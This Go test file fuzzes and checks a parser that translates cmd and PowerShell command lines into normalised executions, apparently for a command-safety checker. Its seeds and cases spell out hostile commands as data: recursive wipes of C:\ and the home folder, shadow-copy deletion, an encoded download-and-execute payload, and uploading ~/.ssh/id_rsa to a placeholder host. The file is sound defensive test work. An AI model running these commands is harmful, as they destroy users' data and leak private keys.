package parse

import (
	"errors"
	"strings"
	"testing"
)

var winSeeds = []string{
	`cmd /c rd /s /q C:\x`, `cmd.exe /c "del /f /s /q C:\*"`, `cmd /c "cd /d C:\ && del /s *" & echo ^& "x`,
	`powershell -Command "Remove-Item -Recurse -Force ~"`, `pwsh -c 'ri -r -fo $env:USERPROFILE; iex (iwr x)'`,
	`powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AZQB4AGEAbQBwAGwAZQAvAGEAKQA=`,
	`powershell -c "[IO.Directory]::Delete($HOME, $true); (New-Object Net.WebClient).UploadFile('https://x', (Resolve-Path ~/.ssh/id_rsa))"`,
	`powershell -c '@{a=1}; $(gci); [x]::y((((z; <# c #> "a""b` + "`" + `"c" | % { $_ }'`,
	`cmd /c start "" powershell -c "Start-Process cmd -ArgumentList '/c rd /s /q C:\'"`, `echo 'rd /s /q C:\' | cmd`,
	// fan-out (fanout.go)
	`cat u | parallel curl -sO`, `parallel rm -rf {} {1} {.} {/} {//} ::: ~/a b ::: c :::: f`, `parallel echo ::: a ::: `,
	`fd -t f -e x . ~ -x rm {} \; -X chmod 000`, `git -C d ls-files -z x | xargs -0 -I% rm -rf %`, `printf '%s\n' ~/* | xargs rm`,
	`find ~ -exec chown nobody {} + | xargs ls`, `ls -R | xargs -n1 shred`,
}

// FuzzWinShell checks that the cmd and PowerShell readers never panic or
// break the limits on any text.
func FuzzWinShell(f *testing.F) {
	for _, s := range winSeeds {
		f.Add(s)
	}
	opt := Options{Cwd: "/w", Home: "/h", MaxBytes: 1 << 16, MaxDepth: 16, MaxExecs: 2000}
	f.Fuzz(func(t *testing.T, src string) {
		for _, pre := range []string{"", "powershell -c ", "cmd /c "} {
			r, err := Parse(pre+src, opt)
			if err != nil {
				var se *SyntaxError
				var le *LimitError
				if !errors.As(err, &se) && !errors.As(err, &le) {
					t.Fatalf("unexpected error kind (a recovered panic?): %v", err)
				}
				continue
			}
			if len(r.Execs) > opt.MaxExecs {
				t.Fatalf("%d executions", len(r.Execs))
			}
		}
	})
}

// TestWinShell checks what the readers emit for the forms they know.
func TestWinShell(t *testing.T) {
	for _, tc := range []struct{ src, want string }{
		{`cmd /c rd /s /q C:\x`, "rm -rf -- /mnt/c/x"},
		{`cmd /c 'del /q "%USERPROFILE%\a b.txt"'`, "rm -f -- /h/a b.txt"},
		{`cmd /c "cd /d C:\w && del /s /q *"`, "rm -rf -- *"},
		{`powershell -c 'Remove-Item -Recurse -Force $env:USERPROFILE'`, "rm -rf -- /h"},
		{`pwsh -c 'rm -r -fo ~/x, ~/y'`, "rm -rf -- /h/x /h/y"},
		{`powershell -c 'gci ~ -Recurse | Remove-Item -Force'`, "rm -rf -- /h/*"},
		{`powershell -c 'Get-Content ~/.ssh/id_rsa'`, ": < /h/.ssh/id_rsa"},
		{`powershell -c 'iwr https://x.example/a -OutFile a.ps1'`, "curl -o a.ps1 https://x.example/a"},
		{`powershell -c 'iex (iwr https://x.example/a)'`, "invoke-expression [curl]"},
		{`powershell -c 'vssadmin delete shadows /all'`, "vssadmin delete shadows /all"},
		{`powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAfgAgAC0AUgBlAGMAdQByAHMAZQA=`, "rm -r -- /h"},
		{`powershell -c 'Remove-Item -Recurse -Force ~ -WhatIf'`, ""},
	} {
		r, err := Parse(tc.src, Options{Cwd: "/w", Home: "/h"})
		if err != nil {
			t.Fatalf("%s: %v", tc.src, err)
		}
		var got []string
		for _, e := range r.Execs[1:] {
			vals := make([]string, len(e.Argv))
			for i, a := range e.Argv {
				vals[i] = a.Value
			}
			s := strings.Join(vals, " ")
			for _, rd := range e.Redirects {
				s += " " + rd.Op + " " + rd.Target.Value
			}
			if e.RunsCode != nil {
				s += " [" + strings.Join(e.RunsCode.Sources, ",") + "]"
			}
			got = append(got, s)
		}
		if tc.want == "" && len(got) > 0 || tc.want != "" && !contains(got, tc.want) {
			t.Errorf("%s: got %q, want %q", tc.src, got, tc.want)
		}
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}
